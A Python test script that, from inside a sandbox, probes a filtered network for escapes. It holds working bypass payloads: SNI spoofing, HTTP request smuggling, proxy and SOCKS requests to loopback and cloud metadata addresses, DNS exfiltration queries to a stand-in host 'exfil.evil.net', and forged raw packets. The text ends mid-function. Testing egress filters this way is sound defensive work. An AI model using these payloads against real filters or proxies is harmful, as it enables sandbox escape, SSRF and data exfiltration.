#!/usr/bin/python3
"""Runs in a box with a filtered network and tries to reach what it may not, each attempt by its own bytes.

    attack_net.py three VERB ARG…   VERB as the box's root, as uid 1000 without capabilities, and inside
                                    `unshare -Urmn` and `unshare -Urm`; "attacker<TAB>-<TAB>NAME" before each
    attack_net.py VERB ARG…         as whoever calls

A line an attempt: EXPECTED<TAB>ATTEMPT<TAB>OUTCOME. EXPECTED is "no", "yes" or "any" (only that nothing
not allowed is reached, as the internet's record says); OUTCOME begins with "reached" when a server answered.
"""

import concurrent.futures
import errno
import os
import random
import re
import socket
import struct
import subprocess
import sys
import time

WAIT = 20.0
ATTACKERS = (
    ('root', ()),
    ('user', ('setpriv', '--reuid=1000', '--regid=1000', '--clear-groups', '--inh-caps=-all',
              '--bounding-set=-all')),
    ('userns', ('unshare', '-Urmn')),
    ('userns_here', ('unshare', '-Urm')),
)


def report(expected, attempt, outcome):
    print(f'{expected}\t{attempt}\t{outcome}', flush=True)


def failure(error):
    if isinstance(error, (TimeoutError, socket.timeout)):
        return 'silence'
    if isinstance(error, socket.gaierror):
        return 'no address'
    return errno.errorcode.get(error.errno or 0, str(error))


def judge(data, secret):
    """What an answer means. `secret`: what only a server could have said back."""
    if secret in data:
        return 'reached ' + repr(data[:100])
    if b'egress refused' in data or b' 403 ' in data[:20]:
        return 'refused in words'
    if data[:2] == b'\x15\x03' and len(data) >= 7:
        return f'alert {data[6]}'
    return 'answer ' + repr(data[:60]) if data else 'closed'


def talk(address, port, steps, secret=b'reached', wait=WAIT):
    """Connects, then sends each of `steps`: bytes; a number of seconds to wait; or "answer", for some answer
    before the next. Then reads to the end."""
    try:
        peer = socket.create_connection((address, port), wait)
    except OSError as error:
        return failure(error)
    data = b''
    with peer:
        try:
            for step in steps:
                if step == 'answer':
                    data += peer.recv(65536)
                elif isinstance(step, bytes):
                    peer.sendall(step)
                else:
                    time.sleep(step)
            end = time.monotonic() + wait
            while secret not in data:
                peer.settimeout(max(0.01, end - time.monotonic()))
                piece = peer.recv(65536)
                if not piece:
                    break
                data += piece
                # An answer that leaves the connection open has said it all.
                if b'egress refused' in data or data[:2] == b'\x15\x03':
                    break
        except OSError as error:
            return failure(error) if secret not in data else judge(data, secret)
    return judge(data, secret)


def run_all(attempts):
    """(expected, name, function) at the same time; told in their order."""
    with concurrent.futures.ThreadPoolExecutor(24) as pool:
        running = [(expected, name, pool.submit(work)) for expected, name, work in attempts]
        for expected, name, work in running:
            report(expected, name, work.result())


def address_of(name):
    try:
        return socket.getaddrinfo(name, 0, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
    except OSError:
        return '198.18.1.0'


def get(host, path=b'/secret'):
    return b'GET ' + path + b' HTTP/1.1\r\nHost: ' + host + b'\r\n\r\n'


# --- TLS -------------------------------------------------------------------------------------------------------

def extension(kind, body):
    return struct.pack('>HH', kind, len(body)) + body


def server_names(*names, kind=0):
    entries = b''.join(bytes([kind]) + struct.pack('>H', len(name)) + name for name in names)
    return extension(0, struct.pack('>H', len(entries)) + entries)


def hello(*extensions, fragment=None, padding=0, suite=b'\xc0\x2b'):
    """A ClientHello that OpenSSL answers, in records of `fragment` bytes."""
    more = b''.join(extensions)
    more += extension(10, b'\0\2\0\x17') + extension(11, b'\1\0') + extension(13, b'\0\2\4\3')
    if padding:
        more += extension(21, bytes(padding))
    body = b'\3\3' + bytes(32) + b'\0' + b'\0\2' + suite + b'\1\0' + struct.pack('>H', len(more)) + more
    message = b'\1' + struct.pack('>I', len(body))[1:] + body
    size = fragment or len(message)
    pieces = [message[at:at + size] for at in range(0, len(message), size)]
    return b''.join(b'\x16\3\1' + struct.pack('>H', len(piece)) + piece for piece in pieces)


TLS_ANSWER = b'\x16\x03'
TLS_INSIDE = b'\x17\x03\x03'


def hello13(name, share):
    """One of TLS 1.3; without a share of a key the server asks for another hello."""
    shares = b'\0\x17' + struct.pack('>H', len(share)) + share if share else b''
    return hello(server_names(name), extension(43, b'\2\3\4'),
                 extension(51, struct.pack('>H', len(shares)) + shares), suite=b'\x13\1')


# Any point of the curve will do: its base point.
SHARE = bytes.fromhex('046b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296'
                      '4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5')


def tls(expected, name, address, port, *steps):
    return expected, name, lambda: talk(address, port, steps, TLS_ANSWER)


def verb_tls(allowed, refused):
    here, there = address_of(allowed), address_of(refused)
    good, bad = allowed.encode(), refused.encode()
    v2 = b'\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10' + b'\0\0\x2f' * 7 + bytes(16)
    hellos = [
        ('a foreign name', hello(server_names(bad))),
        ('a foreign name in records of one byte', hello(server_names(bad), fragment=1)),
        ('a foreign name far behind', hello(server_names(bad), padding=15000, fragment=1000)),
        ('no name', hello()),
        ('an empty name', hello(server_names(b''))),
        ('a trailing dot', hello(server_names(good + b'.'))),
        ('NUL and more', hello(server_names(good + b'\0.' + bad))),
        ('NUL', hello(server_names(good + b'\0'))),
        ('a name that begins alike', hello(server_names(good + b'.evil.net'))),
        ('a name that ends alike', hello(server_names(b'evil' + good))),
        ('a letter of another alphabet', hello(server_names('аllowed.site'.encode()))),
        ('a full-width letter', hello(server_names('ａllowed.site'.encode()))),
        ('two names', hello(server_names(good, bad))),
        ('two names, the other way', hello(server_names(bad, good))),
        ('two extensions', hello(server_names(good), server_names(bad))),
        ('two extensions, the other way', hello(server_names(bad), server_names(good))),
        ('another type of name', hello(server_names(bad, kind=1))),
        ('an address as the name', hello(server_names(b'45.46.0.12'))),
        ('a hello of SSL 2', v2),
        ('a hello longer than all', b'\x16\3\1\x40\0' + b'\1\xff\xff\xff' + bytes(16380)),
        ('cleartext HTTP', get(good)),
        ('something else', b'SSH-2.0-client\r\n'),
        ('an alert', b'\x15\3\1\0\2\2\x28'),
    ]
    attempts = [('yes', f'{allowed} with its name', lambda: talk(here, 443, (hello(server_names(good)),), TLS_ANSWER)),
                ('yes', f'{allowed} in records of one byte',
                 lambda: talk(here, 443, (hello(server_names(good), fragment=1),), TLS_ANSWER)),
                ('yes', f'{allowed} in capitals',
                 lambda: talk(here, 443, (hello(server_names(good.upper())),), TLS_ANSWER))]
    attempts += [tls('no', f'{allowed} with {what}', here, 443, data) for what, data in hellos]
    named = hello(server_names(good))
    attempts += [tls('no', f'{address}:{port} with an allowed name', address, port, named) for address, port in
                 ((there, 443), ('45.46.0.66', 443), ('45.46.0.10', 443), ('2606:4546::66', 443),
                  ('198.18.200.1', 443), ('198.18.0.5', 443), ('198.18.0.1', 443), (here, 8443), (here, 22),
                  (here, 853), ('10.1.2.3', 443), ('169.254.169.254', 443), ('45.45.45.2', 443),
                  # These are allowed by address, and their hello must not have another's name.
                  ('45.46.7.7', 443))]
    attempts.append(tls('yes', 'an allowed address without a name', '45.46.7.7', 443, hello()))
    # What the server says inside comes behind the second hello only.
    for expected, what, steps in (
            ('yes', 'the same name in a second hello', ('answer', hello13(good, SHARE))),
            ('no', 'a foreign name in a second hello', ('answer', hello13(bad, SHARE))),
            ('no', 'a foreign name in a second hello, sent at once', (hello13(bad, SHARE),)),
            ('no', 'no name in a second hello',
             ('answer', hello13(good, SHARE).replace(server_names(good), extension(0xfafa, bytes(5 + len(good))))))):
        attempts.append((expected, f'{allowed} with {what}',
                         lambda steps=steps: talk(here, 443, (hello13(good, b''), *steps), TLS_INSIDE)))
    run_all(attempts)


# --- HTTP ------------------------------------------------------------------------------------------------------

def verb_http(allowed, refused):
    here = address_of(allowed)
    good, bad = allowed.encode(), refused.encode()
    line = b'GET /secret HTTP/1.1\r\n'
    host = b'Host: ' + good + b'\r\n'
    heads = [
        ('a foreign Host', get(bad)),
        ('no Host', line + b'\r\n'),
        ('no Host, in HTTP/1.0', b'GET /secret HTTP/1.0\r\n\r\n'),
        ('HTTP/0.9', b'GET /secret\r\n'),
        ('two Hosts', line + host + b'Host: ' + bad + b'\r\n\r\n'),
        ('two Hosts, the other way', line + b'Host: ' + bad + b'\r\n' + host + b'\r\n'),
        ('a Host with a user', line + b'Host: ' + good + b'@' + bad + b'\r\n\r\n'),
        ('a Host with a path', line + b'Host: ' + good + b'/' + bad + b'\r\n\r\n'),
        ('a Host with another port', line + b'Host: ' + good + b':8080\r\n\r\n'),
        ('a Host with NUL', line + b'Host: ' + good + b'\0' + bad + b'\r\n\r\n'),
        ('a Host and a blank', line + b'Host : ' + good + b'\r\n\r\n'),
        ('a Host in two lines', line + b'Host: ' + good + b'\r\n ' + bad + b'\r\n\r\n'),
        ('a list as Host', line + b'Host: ' + good + b', ' + bad + b'\r\n\r\n'),
        ('a Host that begins alike', get(good + b'.evil.net')),
        ('a Host that ends alike', get(b'evil' + good)),
        ('an absolute foreign target', b'GET http://' + bad + b'/secret HTTP/1.1\r\n' + host + b'\r\n'),
        ('an absolute target with a foreign Host',
         b'GET http://' + good + b'/secret HTTP/1.1\r\nHost: ' + bad + b'\r\n\r\n'),
        ('an empty line first', b'\r\n' + get(good)),
        ('a bare line feed first', b'\n' + get(good)),
        ('bare line feeds', line.replace(b'\r', b'') + host.replace(b'\r', b'') + b'\n'),
        ('a bare line feed in a field', line + host + b'A: b\nHost: ' + bad + b'\r\n\r\n'),
        ('a bare carriage return', line + host + b'A: b\rHost: ' + bad + b'\r\n\r\n'),
        ('both lengths', b'POST /secret HTTP/1.1\r\n' + host +
         b'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'),
        ('two lengths', b'POST /secret HTTP/1.1\r\n' + host + b'Content-Length: 0\r\nContent-Length: 4\r\n\r\nabcd'),
        ('a length with a sign', b'POST /secret HTTP/1.1\r\n' + host + b'Content-Length: +4\r\n\r\nabcd'),
        ('an unknown coding', b'POST /secret HTTP/1.1\r\n' + host +
         b'Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n'),
        ('a hidden coding', b'POST /secret HTTP/1.1\r\n' + host + b'Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n'),
        ('a control byte', line + host + b'A: \x01\r\n\r\n'),
        ('NUL in the target', b'GET /secret\0 HTTP/1.1\r\n' + host + b'\r\n'),
        ('a blank too much', b'GET  /secret HTTP/1.1\r\n' + host + b'\r\n'),
        ('an endless head', line + host + b'A: ' + b'a' * 70000 + b'\r\n\r\n'),
        ('the preface of HTTP/2', b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + b'\0\0\0\4\0\0\0\0\0'),
        ('CONNECT to a foreign host', b'CONNECT ' + bad + b':80 HTTP/1.1\r\nHost: ' + bad + b':80\r\n\r\n' + get(bad)),
        ('CONNECT to itself', b'CONNECT ' + good + b':80 HTTP/1.1\r\nHost: ' + good + b':80\r\n\r\n' + get(good)),
        ('a hello of TLS', hello(server_names(good))),
        ('something else', b'SSH-2.0-client /secret\r\n\r\n'),
    ]
    fine = get(good, b'/fine')
    later = [
        ('a second request to a foreign host', (fine, 'answer', get(bad))),
        ('a second request at once', (fine + get(bad),)),
        ('a second request behind a body',
         (b'POST /fine HTTP/1.1\r\n' + host + b'Content-Length: 5\r\n\r\nhello' + get(bad),)),
        ('a second request behind chunks', (b'POST /fine HTTP/1.1\r\n' + host +
                                            b'Transfer-Encoding: chunked\r\n\r\n5;a=b\r\nhello\r\n0\r\n\r\n' + get(bad),)),
        ('a chunk whose size means two things', (b'POST /fine HTTP/1.1\r\n' + host +
                                                 b'Transfer-Encoding: chunked\r\n\r\n0x3\r\nabc\r\n0\r\n\r\n' + get(bad),)),
        ('a chunk of 2^64', (b'POST /fine HTTP/1.1\r\n' + host +
                             b'Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n' + get(bad),)),
        ('a second one that is CONNECT', (fine, 'answer', b'CONNECT ' + bad + b':80 HTTP/1.1\r\nHost: ' + bad +
                                          b':80\r\n\r\n' + get(bad))),
        ('after an upgrade that nobody took',
         (b'GET /fine HTTP/1.1\r\n' + host + b'Connection: Upgrade\r\nUpgrade: foo\r\n\r\n', 'answer', get(bad))),
        ('an upgrade to HTTP/2', (b'GET /fine HTTP/1.1\r\n' + host + b'Connection: Upgrade, HTTP2-Settings\r\n'
                                  b'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n', 'answer',
                                  b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + get(bad))),
        ('after an answer to HEAD', (b'HEAD /fine HTTP/1.1\r\n' + host + b'\r\n', 'answer', get(bad))),
    ]

    def refused_or(steps):
        # The answer to /fine comes, and nothing that speaks of /secret: closed, or refused in words.
        return talk(here, 80, steps, b'/secret', wait=6.0)
    attempts = [('yes', f'{allowed}', lambda: talk(here, 80, (fine,), b'/fine'))]
    attempts += [('yes', f'{allowed}, byte by byte',
                  lambda: talk(here, 80, [fine[n:n + 1] for n in range(len(fine))], b'/fine'))]
    attempts += [('yes', f'{allowed}, two requests', lambda: talk(here, 80, (fine, 'answer', get(good)), b'/secret'))]
    # By themselves: a head has 10 s, which its bytes can take one by one beside all the others.
    run_all(attempts)
    attempts = [('no', f'{allowed} with {what}', lambda data=data: talk(here, 80, (data,), b'reached'))
                 for what, data in heads]
    attempts += [('no', f'{allowed}, {what}', lambda steps=steps: refused_or(steps)) for what, steps in later]
    attempts += [('no', f'{address} with an allowed Host', lambda address=address: talk(address, 80, (get(good),)))
                 for address in (address_of(refused), '45.46.0.66', '45.46.0.10', '2606:4546::66', '198.18.200.1',
                                 '45.46.7.7')]
    run_all(attempts)


# --- the proxy that the environment names ----------------------------------------------------------------------------

def verb_proxy(allowed, refused):
    proxy = re.search(r'//([^/:]+):(\d+)', os.environ.get('http_proxy', 'http://198.18.0.1:3128'))
    proxy = (proxy[1], int(proxy[2]))
    good, bad = allowed.encode(), refused.encode()
    synthetic = address_of(allowed).encode()

    def connect(target, *steps, host=None, secret=b'reached'):
        head = b'CONNECT ' + target + b' HTTP/1.1\r\nHost: ' + (host or target) + b'\r\n\r\n'
        return lambda: talk(*proxy, (head, *steps), secret, wait=6.0)

    def absolute(target, host=None, more=b'', after=b''):
        head = b'GET ' + target + b' HTTP/1.1\r\nHost: ' + (host or bad) + b'\r\n' + more + b'\r\n'
        return lambda: talk(*proxy, (head + after,), b'/secret', wait=6.0)

    def socks(kind, address, port, *steps, command=1, secret=b'reached'):
        request = b'\5' + bytes([command]) + b'\0' + kind + address + struct.pack('>H', port)
        return lambda: talk(*proxy, (b'\5\1\0', 'answer', request, *steps), secret, wait=6.0)

    def name(text):
        return bytes([len(text)]) + text
    named, foreign = hello(server_names(good)), hello(server_names(bad))
    attempts = [
        ('yes', 'CONNECT to an allowed host', connect(good + b':443', 'answer', named, secret=TLS_ANSWER)),
        ('yes', 'CONNECT, with the hello at once', connect(good + b':443', named, secret=TLS_ANSWER)),
        ('yes', 'an allowed absolute target', absolute(b'http://' + good + b'/secret', good)),
        ('yes', 'SOCKS to an allowed host', socks(b'\3', name(good), 443, 'answer', named, secret=TLS_ANSWER)),
        ('no', 'CONNECT with a foreign name in the hello', connect(good + b':443', 'answer', foreign, secret=TLS_ANSWER)),
        ('no', 'CONNECT with no name in the hello', connect(good + b':443', 'answer', hello(), secret=TLS_ANSWER)),
        ('no', 'CONNECT to 443 and cleartext', connect(good + b':443', 'answer', get(good))),
        ('no', 'CONNECT to a foreign host with an allowed Host',
         connect(bad + b':443', named, host=good + b':443', secret=TLS_ANSWER)),
        ('no', 'CONNECT inside of CONNECT', connect(good + b':80', b'CONNECT ' + bad + b':80 HTTP/1.1\r\nHost: ' + bad +
                                                    b':80\r\n\r\n', get(bad))),
        ('no', 'CONNECT to the proxy itself', connect(b'198.18.0.1:3128', b'CONNECT ' + bad + b':80 HTTP/1.1\r\nHost: ' +
                                                      bad + b'\r\n\r\n', get(bad))),
        ('no', 'CONNECT to 80 and a foreign Host', connect(good + b':80', 'answer', get(bad))),
        ('no', 'CONNECT to an address of a name, and a foreign hello',
         connect(synthetic + b':443', 'answer', foreign, secret=TLS_ANSWER)),
        ('no', 'CONNECT to an address with an allowed hello',
         connect(b'45.46.0.66:443', 'answer', named, secret=TLS_ANSWER)),
        ('no', 'CONNECT to an allowed address with a name in the hello',
         connect(b'45.46.7.7:443', 'answer', named, secret=TLS_ANSWER)),
        ('no', 'CONNECT without a port', connect(good, named, secret=TLS_ANSWER)),
        ('no', 'CONNECT with NUL', connect(good + b'\0.evil.net:443', named, secret=TLS_ANSWER)),
        ('no', 'CONNECT in another alphabet', connect('аllowed.site:443'.encode(), named, secret=TLS_ANSWER)),
        ('no', 'CONNECT with a user', connect(good + b'@' + bad + b':443', named, secret=TLS_ANSWER)),
        ('no', 'an absolute foreign target with an allowed Host', absolute(b'http://' + bad + b'/secret', good)),
        ('no', 'an absolute target with a user', absolute(b'http://' + good + b'@' + bad + b'/secret')),
        ('no', 'an absolute target with another port', absolute(b'http://' + good + b':8080/secret', good + b':8080')),
        ('no', 'an absolute target of https', absolute(b'https://' + bad + b'/secret')),
        ('no', 'an absolute target of ftp', absolute(b'ftp://' + bad + b'/secret')),
        ('no', 'a second request', absolute(b'http://' + good + b'/fine', good,
                                            after=b'GET http://' + bad + b'/secret HTTP/1.1\r\nHost: ' + bad + b'\r\n\r\n')),
        ('no', 'a second request without a target', absolute(b'http://' + good + b'/fine', good, after=get(bad))),
        ('no', 'no target', lambda: talk(*proxy, (get(good),), b'reached')),
        ('no', 'SOCKS to a foreign host', socks(b'\3', name(bad), 443, 'answer', named, secret=TLS_ANSWER)),
        ('no', 'SOCKS with a foreign name in the hello', socks(b'\3', name(good), 443, 'answer', foreign,
                                                              secret=TLS_ANSWER)),
        ('no', 'SOCKS to loopback', socks(b'\1', bytes([127, 0, 0, 1]), 8080, 'answer', get(b'127.0.0.1'))),
        ('no', 'SOCKS to loopback, mapped',
         socks(b'\4', bytes(10) + b'\xff\xff\x7f\0\0\1', 8080, 'answer', get(b'127.0.0.1'))),
        ('no', 'SOCKS to a foreign address', socks(b'\1', bytes([45, 46, 0, 66]), 8080, 'answer', get(bad))),
        ('no', 'SOCKS by an odd name', socks(b'\3', name(b'0x7f000001'), 8080, 'answer', get(b'127.0.0.1'))),
        ('no', 'SOCKS that listens', socks(b'\1', bytes(4), 8080, 'answer', command=2)),
        ('no', 'SOCKS for datagrams', socks(b'\1', bytes(4), 8080, 'answer', command=3)),
        ('no', 'SOCKS 4', lambda: talk(*proxy, (b'\4\1' + struct.pack('>H', 8080) + bytes([45, 46, 0, 66]) + b'a\0',
                                               get(bad)), wait=6.0)),
    ]
    for target in ODD_TARGETS:
        attempts.append(('no', f'CONNECT to {target}', connect(target.encode(), get(b'x'))))
        attempts.append(('no', f'an absolute target of {target}', absolute(b'http://' + target.encode() + b'/secret',
                                                                          target.encode())))
    run_all(attempts)


ODD_TARGETS = (
    'refused.site:80', 'allowed.site:22', 'allowed.site:8080', 'allowed.site.evil.net:80', 'evilallowed.site:80',
    'localhost:8080', '127.0.0.1:8080', '127.1:8080', '2130706433:8080', '0x7f000001:8080', '0x7f.1:8080',
    '0177.0.0.1:8080', '017700000001:8080', '0:8080', '0.0.0.0:8080', '127.0.0.1.:8080', '[::1]:8080', '[::]:8080',
    '[::ffff:127.0.0.1]:8080', '[::ffff:7f00:1]:8080', '[::127.0.0.1]:8080', '[fe80::1%25eth0]:80', '[fe80::1%eth0]:80',
    '[64:ff9b::7f00:1]:8080', '[2002:7f00:1::]:8080', '45.45.45.2:8080', '[2606:4545::2]:8080', '192.168.7.2:8080',
    '192.168.7.1:8080', '10.0.0.1:8080', '169.254.169.254:80', '[fd00:ec2::254]:80', '100.100.100.200:80',
    '168.63.129.16:80', 'metadata.google.internal:80', 'host.temenos.internal:8080', '198.18.0.5:65535',
    '198.18.0.1:53', '45.46.0.66:8080', '[2606:4546::66]:8080')


# --- addresses and names ---------------------------------------------------------------------------------------------

ADDRESSES = (
    '45.46.0.66', '45.46.0.10', '8.8.8.8', '1.1.1.1', '10.0.0.1', '10.255.255.53', '172.16.0.1', '192.168.7.1',
    '192.168.7.9', '100.64.0.1', '169.254.169.254', '169.254.170.2', '169.254.0.23', '100.100.100.200', '168.63.129.16',
    '192.0.0.192', '45.45.45.1', '45.45.45.2', '192.168.7.2', '198.18.0.1', '198.18.0.5', '198.19.255.255', '0.0.0.0',
    '127.0.0.1', '255.255.255.255', '224.0.0.1', '240.0.0.1', '2606:4546::66', '2606:4546::10', '2001:4860:4860::8888',
    '2606:4545::1', '2606:4545::2', 'fd00:7::1', 'fd00:7::2', 'fd00:ec2::254', 'fd20:ce::254', 'fe80::1', '::1', '::',
    'ff02::1', '::ffff:127.0.0.1', '::ffff:45.46.0.66', '64:ff9b::a00:1', '64:ff9b::2d2e:42', '2002:a00:1::', '2001::1',
    '::10.0.0.1', 'fec0::1', 'fd74:656d:656e:6f73::1', 'fd74:656d:656e:6f73::5',
    # Spellings that a resolver of the box makes into addresses.
    '2130706433', '0x7f000001', '0177.0.0.1', '127.1', '0', '::ffff:7f00:1', 'fe80::1%eth0', '0x2d2e0042', '757399618')


def verb_addresses(*ports):
    def attempt(address, port):
        host = f'[{address}]' if ':' in address else address
        return talk(address, int(port), (get(host.encode()),), wait=3.0)
    run_all([('no', f'{address} {port}', lambda address=address, port=port: attempt(address, port))
             for address in ADDRESSES for port in ports])


def verb_names(*targets):
    """[+?]NAME:PORT…; with + it is allowed, and reached, with ? it may be."""
    def attempt(target):
        name, port = target.lstrip('+?').rsplit(':', 1)
        steps = (get((f'[{name}]' if ':' in name else name).encode()),)
        secret = b'reached'
        if port == '443':
            steps, secret = (hello(server_names(name.encode())),), TLS_ANSWER
        return talk(name, int(port), steps, secret, wait=10.0)
    run_all([({'+': 'yes', '?': 'any'}.get(target[0], 'no'), target, lambda target=target: attempt(target))
             for target in targets])


# --- DNS --------------------------------------------------------------------------------------------------------------

def question(name, kind, klass=1, flags=0x100):
    labels = b''.join(bytes([len(label)]) + label for label in name.split(b'.') if label)
    return struct.pack('>HHHHHH', random.randrange(65536), flags, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, klass)


def ask_udp(server, port, data):
    family = socket.AF_INET6 if ':' in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        try:
            sock.connect((server, port))
            sock.send(data)
            answer = sock.recv(4096)
        except OSError as error:
            return failure(error)
    return f'code {answer[3] & 15}, {struct.unpack(">H", answer[6:8])[0]} answers' if len(answer) >= 12 else 'cut'


def ask_tcp(server, port, data):
    try:
        with socket.create_connection((server, port), 5) as sock:
            sock.sendall(struct.pack('>H', len(data)) + data)
            answer = sock.recv(4096)
    except OSError as error:
        return failure(error)
    return f'code {answer[5] & 15}' if len(answer) >= 14 else 'closed'


RESOLVERS = ('198.18.0.1', '8.8.8.8', '1.1.1.1', '45.45.45.1', '10.0.0.53', '169.254.169.253', '2001:4860:4860::8888',
             '2606:4545::1', 'fd74:656d:656e:6f73::1', '45.45.45.2')


def verb_dns(allowed):
    names = (b'exfil.evil.net', b'exfil.' + allowed.encode(), b'exfil' * 12 + b'.' + b'a' * 60 + b'.evil.net',
             b'exfil\0.' + allowed.encode(), b'exfil.allowed.site.evil.net', b'exfil', b'exfil..', b'EXFIL.' +
             allowed.encode().upper())
    kinds = (1, 28, 16, 10, 15, 33, 65, 255, 252, 5, 6, 2, 48)
    attempts = []
    for server in RESOLVERS:
        for name in names:
            attempts.append(('any', f'{server} udp {name!r}',
                             lambda s=server, n=name: ask_udp(s, 53, question(n, 1))))
        for kind in kinds:
            attempts.append(('any', f'{server} udp type {kind}',
                             lambda s=server, k=kind: ask_udp(s, 53, question(b'exfil.evil.net', k))))
        attempts += [
            ('any', f'{server} tcp', lambda s=server: ask_tcp(s, 53, question(b'exfil.evil.net', 1))),
            ('any', f'{server} AXFR', lambda s=server: ask_tcp(s, 53, question(allowed.encode(), 252))),
            ('any', f'{server} another class', lambda s=server: ask_udp(s, 53, question(b'exfil.bind', 16, 3))),
            ('any', f'{server} an update', lambda s=server: ask_udp(s, 53, question(b'exfil.evil.net', 6, 1, 0x2800))),
            ('any', f'{server} no question', lambda s=server: ask_udp(s, 53, b'\0' * 12)),
            ('any', f'{server} not DNS', lambda s=server: ask_udp(s, 53, b'exfil')),
            ('no', f'{server} DoT', lambda s=server: talk(s, 853, (hello(server_names(b'dns.google')),), TLS_ANSWER)),
            ('no', f'{server} DoT as an allowed name',
             lambda s=server: talk(s, 853, (hello(server_names(allowed.encode())),), TLS_ANSWER)),
            ('no', f'{server} DoH', lambda s=server: talk(s, 443, (hello(server_names(b'dns.google')),), TLS_ANSWER)),
            ('no', f'{server} DoH as an allowed name',
             lambda s=server: talk(s, 443, (hello(server_names(allowed.encode())),), TLS_ANSWER)),
            ('no', f'{server} DoH in clear', lambda s=server: talk(s, 80, (get(b'dns.google'),), b'reached')),
        ] + [('any', f'{server} port {port}', lambda s=server, p=port: ask_udp(s, p, question(b'exfil.evil.net', 1)))
             for port in (5353, 5355, 443, 784, 853, 8853, 137)]
    run_all(attempts)


# --- packets ----------------------------------------------------------------------------------------------------------

def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet4(source, target, protocol, payload, options=b'', fragment=0):
    size = 20 + len(options)
    head = struct.pack('>BBHHHBBH4s4s', 0x40 | size // 4, 0, size + len(payload), 1, fragment, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + options
    return head[:10] + struct.pack('>H', checksum(head)) + head[12:] + payload


def packet6(source, target, protocol, payload):
    return struct.pack('>IHBB', 0x60000000, len(payload), protocol, 64) + socket.inet_pton(
        socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target) + payload


def segment(source_port, port, flags):
    return struct.pack('>HHIIBBHHH', source_port, port, 1, 0, 0x50, flags, 1024, 0, 0)


SOURCES = ('198.18.0.2', '198.18.0.1', '45.45.45.2', '127.0.0.1', '10.9.9.9', '0.0.0.0', '45.46.0.66')
TARGETS = ('45.46.0.66', '45.45.45.2', '10.0.0.1', '169.254.169.254', '192.168.7.1', '198.18.0.1', '127.0.0.1',
           '255.255.255.255', '224.0.0.251')
TARGETS6 = ('2606:4546::66', '2606:4545::2', 'ff02::1', 'ff0e::1', 'fd00:ec2::254', '::1', 'fe80::1')


def forged():
    """Packets of IPv4 and of IPv6."""
    echo = b'\x08\0\xf7\xff\0\0\0\0'
    datagram = struct.pack('>HHHH', 1024, 443, 12, 0) + b'leak'
    for source in SOURCES:
        for target in TARGETS:
            yield 4, packet4(source, target, 1, echo)
            yield 4, packet4(source, target, 17, datagram)
            yield 4, packet4(source, target, 6, segment(4000, 443, 2))
            yield 4, packet4(source, target, 6, segment(4000, 443, 0x10))
            yield 4, packet4(source, target, 132, bytes(16))
            yield 4, packet4(source, target, 47, bytes(16))
            yield 4, packet4(source, target, 4, packet4('10.0.0.9', '45.46.0.66', 17, datagram))
            yield 4, packet4(source, target, 17, datagram, fragment=0x2000)
            yield 4, packet4(source, target, 17, datagram, fragment=100)
            # A source route by way of the router.
            yield 4, packet4(source, target, 17, datagram, b'\x83\x07\x04\xc6\x12\x00\x01\x00')
    echo6 = b'\x80\0\0\0\0\0\0\0'
    for source in ('fd74:656d:656e:6f73::2', '2606:4545::2', '::1', '::', 'fe80::9'):
        for target in TARGETS6:
            yield 6, packet6(source, target, 58, echo6)
            yield 6, packet6(source, target, 17, datagram)
            yield 6, packet6(source, target, 6, segment(4000, 443, 2))
            yield 6, packet6(source, target, 0, b'\x11\0\0\0\0\0\0\0' + datagram)  # hop-by-hop options
            yield 6, packet6(source, target, 43, b'\x11\2\0\1\0\0\0\0' + socket.inet_pton(
                socket.AF_INET6, '2606:4546::66') + datagram)  # a routing header
            yield 6, packet6(source, target, 44, b'\x11\0\0\1\0\0\0\1' + datagram)  # a fragment
            yield 6, packet6(source, target, 58, b'\x86\0\0\0\x40\0\x07\x08' + bytes(8))  # a router speaks
            yield 6, packet6(source, target, 59, b'')


def verb_raw(step):
    """UDP to every STEPth port."""
    attempts = {}

    def count(what, work):
        try:
            work()
            outcome = 'sent'
        except OSError as error:
            outcome = failure(error)
        attempts[what, outcome] = attempts.get((what, outcome), 0) + 1
    for family, name in ((socket.AF_INET, 'ICMP'), (socket.AF_INET6, 'ICMPv6')):
        target = '45.46.0.66' if family == socket.AF_INET else '2606:4546::66'
        for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
            def echo():
                protocol = 1 if family == socket.AF_INET else 58
                with socket.socket(family, kind, protocol) as sock:
                    body = b'\x08\0\xf7\xff\0\0\0\0' if protocol == 1 else b'\x80\0\0\0\0\0\0\0'
                    sock.sendto(body, (target, 0))
            count(f'{name} of kind {int(kind)}', echo)
    raws = {}
    for version, data in forged():
        family = socket.AF_INET if version == 4 else socket.AF_INET6

        def send():
            if family not in raws:
                raws[family] = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
            to = socket.inet_ntop(family, data[16:20] if version == 4 else data[24:40])
            raws[family].sendto(data, (to, 0))
        count(f'a raw IPv{version} packet', send)
    frames = {}
    for _, interface in socket.if_nameindex():
        for version, data in forged():
            kind = 0x800 if version == 4 else 0x86dd

            def send_frame():
                if interface not in frames:
                    frames[interface] = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
                    frames[interface].bind((interface, 0))
                own = frames[interface].getsockname()[4]
                frames[interface].send(b'\xff' * 6 + own + struct.pack('>H', kind) + data)
            count(f'a frame on {interface}', send_frame)
        for data in (b'\0\1\x08\0\6\4\0\1' + bytes(20), bytes(60)):
            def send_other():
